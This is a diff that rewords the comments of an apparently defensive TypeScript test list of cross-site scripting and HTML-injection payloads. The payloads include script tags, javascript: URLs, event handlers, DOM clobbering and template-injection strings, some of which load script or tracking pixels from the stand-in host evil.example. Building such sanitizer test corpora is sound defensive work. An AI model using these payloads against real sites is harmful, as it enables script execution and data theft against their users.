@@ -1,6 +1,6 @@
-/** Markup that has run script, loaded something or taken over a page somewhere, one attack a line. */
+/** Markup that has run script, loaded a file or taken over a page in some browser, one attack a line. */
 export const MARKUP_ATTACKS: readonly string[] = [
-  // Script, however it is written.
+  // Script in every notation.
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<script/x>alert(1)</script/x>`,
@@ -35,7 +35,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   `<marquee onstart=alert(1)>x</marquee>`,
   `<x contenteditable onblur=alert(1)>lose focus`,
   `<button popovertarget=x>y</button><x popover id=x onbeforetoggle=alert(1)>`,
-  // Addresses that run.
+  // URLs that run.
   `<a href="javascript:alert(1)">press</a>`,
   `<a href="JaVaScRiPt:alert(1)">press</a>`,
   `<a href=" javascript:alert(1)">press</a>`,
@@ -53,7 +53,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   `<form action="javascript:alert(1)"><button>press</button></form>`,
   `<form><button formaction="https://evil.example">press</button></form>`,
   `<isindex action="javascript:alert(1)" type=submit value=press>`,
-  // What loads by itself.
+  // Elements that load on their own.
   `<img src="https://evil.example/pixel.gif">`,
   `<img srcset="https://evil.example/pixel.gif 1x">`,
   `<picture><source srcset="https://evil.example/p.gif"><img></picture>`,
@@ -99,7 +99,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   `<form id="main"><input name="attributes"></form>`,
   `<a id="location" name="location">x</a>`,
   `<p id="__proto__">x</p>`,
-  // What only looks like harm, and what comes out of order.
+  // Text that only looks harmful, and text in odd notations.
   `{{constructor.constructor('alert(1)')()}}`,
   `\${alert(1)}`,
   `&lt;script&gt;alert(1)&lt;/script&gt;`,
